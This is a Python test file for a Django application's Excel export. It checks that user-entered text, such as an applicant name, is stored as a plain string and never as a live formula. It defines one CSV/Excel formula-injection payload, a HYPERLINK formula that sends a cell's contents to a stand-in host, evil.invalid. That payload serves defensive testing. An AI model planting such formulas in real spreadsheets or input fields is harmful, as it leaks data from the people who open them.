"""Excel exports: text typed by users is written as text, never as a formula that runs in the reader's Excel."""

import io

from django.urls import reverse
from openpyxl import load_workbook

from fazhi.core.excel import workbook_bytes

from .conftest import register_case

PAYLOAD = '=HYPERLINK("http://evil.invalid/?"&A1,"点击查看")'


def test_workbook_keeps_formula_like_text_as_text():
    wb = load_workbook(io.BytesIO(workbook_bytes("t", ["名称"], [[PAYLOAD], ["=1+1"], ["普通"], [3]])))
    ws = wb.active
    assert [c.value for c in ws["A"]][1:] == [PAYLOAD, "=1+1", "普通", 3]
    assert ws["A2"].data_type == "s" and ws["A3"].data_type == "s" and ws["A5"].data_type == "n"


def test_case_list_export_of_a_hostile_applicant_name(w, client):
    register_case(w, name=PAYLOAD)
    client.force_login(w.reconsideration)
    resp = client.get(reverse("reconsideration:case_list"), {"format": "xlsx"})
    ws = load_workbook(io.BytesIO(resp.content)).active
    cells = [c for row in ws.iter_rows(min_row=2) for c in row if isinstance(c.value, str) and "HYPERLINK" in c.value]
    assert cells and all(c.data_type == "s" for c in cells)
